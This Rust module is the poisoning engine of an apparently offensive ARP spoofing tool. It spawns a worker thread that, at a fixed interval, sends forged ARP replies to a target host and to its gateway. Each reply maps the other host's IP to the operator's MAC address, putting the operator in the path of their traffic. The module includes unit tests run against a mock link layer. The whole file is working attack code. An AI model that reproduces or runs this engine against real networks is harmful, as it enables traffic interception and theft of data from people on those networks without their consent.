//! Poisoning engine: periodically reasserts the forged mappings.

use std::sync::atomic::{AtomicU8, Ordering};
use std::sync::Arc;
use std::thread::{self, JoinHandle};
use std::time::Duration;

use tracing::{debug, error, info, warn};

use crate::domain::{BindingLedger, StopReason};
use crate::error::LinkError;
use crate::link::codec::encode_arp;
use crate::link::LinkLayer;
use crate::shutdown::Shutdown;

/// Default interval between poisoning rounds.
pub const DEFAULT_INTERVAL: Duration = Duration::from_millis(1500);

/// Lifecycle of the poisoning worker.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum PoisonPhase {
    Idle,
    Running,
    Stopped,
}

impl PoisonPhase {
    fn from_u8(value: u8) -> Self {
        match value {
            0 => Self::Idle,
            1 => Self::Running,
            _ => Self::Stopped,
        }
    }
}

/// Counters returned when the worker exits.
#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
pub struct PoisonReport {
    pub rounds: u64,
    pub frames_sent: u64,
    pub transient_failures: u64,
}

pub struct PoisoningEngine<L: LinkLayer + ?Sized> {
    link: Arc<L>,
    ledger: Arc<BindingLedger>,
    interval: Duration,
}

impl<L: LinkLayer + ?Sized + 'static> PoisoningEngine<L> {
    pub fn new(link: Arc<L>, ledger: Arc<BindingLedger>, interval: Duration) -> Self {
        Self {
            link,
            ledger,
            interval,
        }
    }

    /// Start the worker thread. It runs until `shutdown` is requested or a
    /// fatal send error occurs, in which case it requests the shutdown
    /// itself.
    pub fn spawn(self, shutdown: Shutdown) -> std::io::Result<PoisonHandle> {
        let phase = Arc::new(AtomicU8::new(PoisonPhase::Idle as u8));
        let worker_phase = Arc::clone(&phase);

        let thread = thread::Builder::new()
            .name("poison".to_string())
            .spawn(move || {
                worker_phase.store(PoisonPhase::Running as u8, Ordering::SeqCst);
                let report = self.run(&shutdown);
                worker_phase.store(PoisonPhase::Stopped as u8, Ordering::SeqCst);
                report
            })?;

        Ok(PoisonHandle { thread, phase })
    }

    fn run(&self, shutdown: &Shutdown) -> PoisonReport {
        let mut report = PoisonReport::default();

        let Some(forged) = self.ledger.forged_replies(self.link.hardware_address()) else {
            warn!("Bindings incomplete, not poisoning");
            return report;
        };
        let frames = forged.map(|frame| (frame, encode_arp(&frame)));

        info!(
            "Beginning ARP poisoning on {} (interval: {:.1}s)",
            self.link.interface_name(),
            self.interval.as_secs_f64()
        );

        while !shutdown.is_requested() {
            report.rounds += 1;

            for (frame, bytes) in &frames {
                match self.link.send(bytes) {
                    Ok(()) => {
                        report.frames_sent += 1;
                        debug!("Poisoned {}: {}", frame.target_ip, frame);
                    }
                    Err(e) if e.is_fatal() => {
                        error!("Poisoning {} failed: {}", frame.target_ip, e);
                        shutdown.request(fatal_reason(&e));
                        return report;
                    }
                    Err(e) => {
                        report.transient_failures += 1;
                        warn!("Poisoning {} failed: {}", frame.target_ip, e);
                    }
                }
            }

            if shutdown.wait_timeout(self.interval) {
                break;
            }
        }

        info!("ARP poisoning stopped after {} rounds", report.rounds);
        report
    }
}

fn fatal_reason(err: &LinkError) -> StopReason {
    StopReason::FatalNetwork(err.to_string())
}

/// Handle to a running poisoning worker.
pub struct PoisonHandle {
    thread: JoinHandle<PoisonReport>,
    phase: Arc<AtomicU8>,
}

impl PoisonHandle {
    pub fn phase(&self) -> PoisonPhase {
        PoisonPhase::from_u8(self.phase.load(Ordering::SeqCst))
    }

    /// Wait for the worker to acknowledge the stop request. The caller must
    /// have requested the shutdown first; the wait is then bounded by one
    /// send round.
    pub fn join(self) -> PoisonReport {
        match self.thread.join() {
            Ok(report) => report,
            Err(_) => {
                error!("Poisoning worker panicked");
                PoisonReport::default()
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::domain::HostBinding;
    use crate::link::mock::{MockLink, OPERATOR_MAC};
    use macaddr::MacAddr6;
    use std::net::Ipv4Addr;
    use std::time::Instant;

    const GATEWAY_MAC: MacAddr6 = MacAddr6::new(0xaa, 0xaa, 0xaa, 0xaa, 0xaa, 0xaa);
    const TARGET_MAC: MacAddr6 = MacAddr6::new(0xbb, 0xbb, 0xbb, 0xbb, 0xbb, 0xbb);

    fn target_ip() -> Ipv4Addr {
        Ipv4Addr::new(192, 168, 1, 2)
    }

    fn gateway_ip() -> Ipv4Addr {
        Ipv4Addr::new(192, 168, 1, 1)
    }

    fn ledger() -> Arc<BindingLedger> {
        Arc::new(BindingLedger::new(
            HostBinding::new(target_ip(), TARGET_MAC),
            HostBinding::new(gateway_ip(), GATEWAY_MAC),
        ))
    }

    fn wait_for_frames(link: &MockLink, count: usize) {
        let deadline = Instant::now() + Duration::from_secs(5);
        while link.sent().len() < count && Instant::now() < deadline {
            thread::sleep(Duration::from_millis(2));
        }
    }

    #[test]
    fn sends_forged_pair_each_round() {
        let link = Arc::new(MockLink::new());
        let shutdown = Shutdown::new();
        let handle = PoisoningEngine::new(Arc::clone(&link), ledger(), Duration::from_millis(10))
            .spawn(shutdown.clone())
            .unwrap();

        wait_for_frames(&link, 4);
        shutdown.request(StopReason::Interrupted);
        let report = handle.join();

        assert!(report.rounds >= 2);
        assert_eq!(report.frames_sent, report.rounds * 2);

        let sent = link.sent_replies();
        let to_gateway = &sent[0];
        assert_eq!(to_gateway.sender_ip, target_ip());
        assert_eq!(to_gateway.sender_hw, OPERATOR_MAC);
        assert_eq!(to_gateway.target_ip, gateway_ip());
        assert_eq!(to_gateway.ether_destination, GATEWAY_MAC);

        let to_target = &sent[1];
        assert_eq!(to_target.sender_ip, gateway_ip());
        assert_eq!(to_target.sender_hw, OPERATOR_MAC);
        assert_eq!(to_target.target_ip, target_ip());
    }

    #[test]
    fn stops_within_one_interval() {
        let link = Arc::new(MockLink::new());
        let shutdown = Shutdown::new();
        let handle = PoisoningEngine::new(Arc::clone(&link), ledger(), Duration::from_secs(30))
            .spawn(shutdown.clone())
            .unwrap();

        wait_for_frames(&link, 2);
        let requested = Instant::now();
        shutdown.request(StopReason::QuotaReached);
        handle.join();

        assert!(requested.elapsed() < Duration::from_secs(5));
    }

    #[test]
    fn phase_ends_stopped() {
        let link = Arc::new(MockLink::new());
        let shutdown = Shutdown::new();
        let handle = PoisoningEngine::new(Arc::clone(&link), ledger(), Duration::from_millis(10))
            .spawn(shutdown.clone())
            .unwrap();

        wait_for_frames(&link, 2);
        assert_eq!(handle.phase(), PoisonPhase::Running);

        shutdown.request(StopReason::Interrupted);
        let phase = Arc::clone(&handle.phase);
        handle.join();
        assert_eq!(PoisonPhase::from_u8(phase.load(Ordering::SeqCst)), PoisonPhase::Stopped);
    }

    #[test]
    fn fatal_error_requests_shutdown_and_exits() {
        let link = Arc::new(MockLink::new().fail_fatally_after(1));
        let shutdown = Shutdown::new();
        let report = PoisoningEngine::new(Arc::clone(&link), ledger(), Duration::from_millis(10))
            .spawn(shutdown.clone())
            .unwrap()
            .join();

        assert_eq!(report.frames_sent, 1);
        assert!(matches!(shutdown.reason(), Some(StopReason::FatalNetwork(_))));
        assert_eq!(link.sent().len(), 1);
    }

    #[test]
    fn transient_errors_keep_looping() {
        let link = Arc::new(MockLink::new().fail_transiently(3));
        let shutdown = Shutdown::new();
        let handle = PoisoningEngine::new(Arc::clone(&link), ledger(), Duration::from_millis(5))
            .spawn(shutdown.clone())
            .unwrap();

        wait_for_frames(&link, 2);
        shutdown.request(StopReason::Interrupted);
        let report = handle.join();

        assert_eq!(report.transient_failures, 3);
        assert!(report.frames_sent >= 1);
        assert_eq!(shutdown.reason(), Some(StopReason::Interrupted));
    }

    #[test]
    fn incomplete_ledger_sends_nothing() {
        let link = Arc::new(MockLink::new());
        let shutdown = Shutdown::new();
        let report = PoisoningEngine::new(
            Arc::clone(&link),
            Arc::new(BindingLedger::empty()),
            Duration::from_millis(5),
        )
        .spawn(shutdown)
        .unwrap()
        .join();

        assert_eq!(report, PoisonReport::default());
        assert!(link.sent().is_empty());
    }

    #[test]
    fn already_requested_shutdown_sends_nothing() {
        let link = Arc::new(MockLink::new());
        let shutdown = Shutdown::new();
        shutdown.request(StopReason::Interrupted);
        let report = PoisoningEngine::new(Arc::clone(&link), ledger(), Duration::from_millis(5))
            .spawn(shutdown)
            .unwrap()
            .join();

        assert_eq!(report.rounds, 0);
        assert!(link.sent().is_empty());
    }
}
